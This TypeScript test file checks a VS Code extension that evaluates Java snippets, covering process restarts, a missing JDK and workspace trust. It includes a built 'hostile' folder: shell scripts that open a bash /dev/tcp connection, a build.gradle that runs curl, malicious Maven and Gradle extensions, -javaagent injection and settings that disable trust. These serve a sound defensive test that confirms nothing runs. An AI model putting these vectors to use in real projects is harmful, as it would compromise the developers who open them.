import { readdirSync, statSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import type { CodeServerOptions } from "./codeServer.js";
import { type Editor, eventually } from "./editor.js";
import { Windows } from "./windows.js";

const ONE = "int one = 1\n\none + 10\n";

const windows = new Windows(null);

afterEach(() => windows.stop());

/** Starts a VS Code of its own, and opens a document in it. */
async function start(options: CodeServerOptions = {}): Promise<Editor> {
  await windows.start(options);
  return windows.open({ "one.jsh": ONE }, "one.jsh");
}

/** Ends the processes at once, and returns when they are gone. */
async function kill(what: "server" | "worker"): Promise<void> {
  const ids = windows.code.processes(what);
  expect(ids.length).toBeGreaterThan(0);
  ids.forEach((id) => process.kill(id, "SIGKILL"));
  await eventually(async () => {
    expect(windows.code.processes(what).filter((id) => ids.includes(id))).toEqual([]);
  });
}

test("a server and workers that are killed come back, with the documents as they were typed", async () => {
  const editor = await start();
  await editor.openView();
  await editor.showsBehind("one + 10", "⇒ 11");
  await editor.endOf("int one = 1");
  await editor.type("5");
  await editor.showsBehind("one + 10", "⇒ 25");

  await kill("worker");
  await editor.endOf("int one = 15");
  await editor.type("0");
  await editor.showsBehind("one + 10", "⇒ 160");

  await kill("server");
  await eventually(async () => expect(windows.code.processes("server")).toHaveLength(1));
  await editor.settled();
  await editor.showsBehind("one + 10", "⇒ 160");
  await editor.viewShows("160");
  await editor.endOf("int one = 150");
  await editor.press("Backspace");
  await editor.showsBehind("one + 10", "⇒ 25");
  await editor.viewShows("25");

  // Again and again: there is an end to it, and a way to begin again.
  for (let i = 0; i < 4; i++) {
    await eventually(async () => expect(windows.code.processes("server")).toHaveLength(1));
    await editor.showsBehind("one + 10", "⇒ 25");
    await editor.settled();
    await kill("server");
  }
  const message = editor.page.locator(".notification-toast", { hasText: "left alone" });
  await message.waitFor();
  await editor.picture("stopped");
  expect(windows.code.processes("server")).toEqual([]);
  await message.getByRole("button", { name: "Start Again" }).click();
  await editor.settled();
  await editor.viewShows("25");
  await editor.close();
}, 900_000);

test("without a JDK it says so, and what to do; with one it goes on", async () => {
  const editor = await start({ settings: { "colight.java.home": "/nowhere/jdk" } });
  const message = editor.page.locator(".notification-toast", { hasText: "needs a JDK" });
  await message.waitFor();
  expect(await message.innerText()).toContain("There is no Java in /nowhere/jdk");
  await editor.command("Colight: Open the Live View");
  await editor.view().locator(".notice", { hasText: "needs a JDK" }).waitFor();
  await editor.picture("no-jdk");
  expect(windows.code.processes("server")).toEqual([]);

  await editor.command("Preferences: Open User Settings (JSON)");
  await editor.page.locator('.tab.active[data-resource-name="settings.json"]').waitFor();
  await editor.focus();
  await editor.press("Control+a");
  await editor.paste("{}");
  await editor.press("Control+s");
  await editor.document("one.jsh");
  await editor.showsBehind("one + 10", "⇒ 11");
  await editor.viewShows("11");
  await editor.close();
});

/** Returns files as somebody else may have sent them: what runs of them calls a port. */
function hostile(port: number): Record<string, string> {
  const url = `http://127.0.0.1:${port}/`;
  const script = `#!/bin/sh\nexec bash -c 'echo > /dev/tcp/127.0.0.1/${port}; touch mark'\n`;
  const options = "-Xlog:gc:mark -javaagent:agent.jar";
  return {
    "evil.jsh": `//DEPS com.evil:evil:1.0\n//REPOS evil=${url}\n//JAVA_OPTIONS ${options}\n//SOURCES Evil.java\n\nFiles.createFile(Path.of("mark"))\n\nnew java.net.URL("${url}").openStream()\n\n6 * 7\n`,
    "Evil.java": `class Evil { static { new java.io.File("mark").mkdir(); } }\n`,
    "pom.xml": `<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>a</artifactId><version>1</version><repositories><repository><id>e</id><url>${url}</url></repository></repositories><build><extensions><extension><groupId>com.evil</groupId><artifactId>e</artifactId><version>1</version></extension></extensions></build></project>\n`,
    "build.gradle": `"curl ${url}".execute()\n`,
    "bin/java": script,
    "bin/javac": script,
    java: script,
    colight: script,
    gradlew: script,
    mvnw: script,
    ".mvn/jvm.config": options,
    ".mvn/extensions.xml": `<extensions><extension><groupId>com.evil</groupId><artifactId>e</artifactId><version>1</version></extension></extensions>\n`,
    ".env": `JAVA_TOOL_OPTIONS=${options}\n`,
    "META-INF/services/javax.annotation.processing.Processor": "Evil\n",
    ".vscode/settings.json": JSON.stringify({
      "colight.java.home": "${workspaceFolder}",
      "colight.java.options": options.split(" "),
      "colight.effects": "run",
      "colight.effectRules": ["[]", "java.nio.file.Files *"],
      "colight.classpath": ["**/*"],
      "colight.run": "type",
      "colight.trust.folders": ["/"],
      "security.workspace.trust.enabled": false,
    }),
  };
}

/** Returns the paths below a folder, and when each was changed. */
function tree(folder: string): string[] {
  return (readdirSync(folder, { recursive: true }) as string[])
    .map((name) => `${name} ${statSync(join(folder, name)).mtimeMs}`)
    .sort();
}

describe("in a workspace that is not trusted", () => {
  test("a hostile folder is only looked at, whatever is asked for", async () => {
    const calls: string[] = [];
    const trap = createServer((socket) => {
      calls.push("called");
      socket.destroy();
    });
    await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
    const { port } = trap.address() as AddressInfo;
    await windows.start({ trust: true });
    const folder = windows.code.folder(hostile(port));
    const before = tree(folder);
    const editor = await windows.openFolder(folder, "evil.jsh");
    const lens = editor.page.locator(".codelens-decoration", { hasText: "is not trusted" });
    await lens.first().waitFor();
    for (const command of ["Run All", "Restart the Server"]) {
      await editor.command(`Colight: ${command}`);
    }
    await editor.command("Colight: Open the Live View");
    await editor.view().locator(".notice", { hasText: "nothing runs" }).waitFor();
    expect((await editor.after("6 * 7")).after).toBe("");
    expect(windows.code.processes("server")).toEqual([]);
    expect(tree(folder)).toEqual(before);
    expect(calls).toEqual([]);
    await editor.close();
    trap.close();
  });

  test("nothing runs until somebody trusts it", async () => {
    const editor = await start({ trust: true });
    const lens = editor.page.locator(".codelens-decoration", { hasText: "is not trusted" });
    await lens.first().waitFor();
    await editor.endOf("one + 10");
    await editor.press("Control+Enter");
    const said = editor.page.locator(".notification-toast", { hasText: "nothing runs" });
    await said.getByRole("button", { name: "Manage trust" }).waitFor();
    await editor.press("Escape");
    await editor.command("Colight: Open the Live View");
    await editor.view().locator(".notice", { hasText: "nothing runs" }).waitFor();
    await editor.picture("untrusted");
    expect(windows.code.processes("server")).toEqual([]);
    expect((await editor.after("one + 10")).after).toBe("");

    await editor.view().locator(".notice-action").click();
    await editor.page.getByRole("button", { name: "Trust", exact: true }).first().click();
    await editor.document("one.jsh");
    await editor.showsBehind("one + 10", "⇒ 11");
    await lens.first().waitFor({ state: "detached" });
    await editor.close();
  });
});
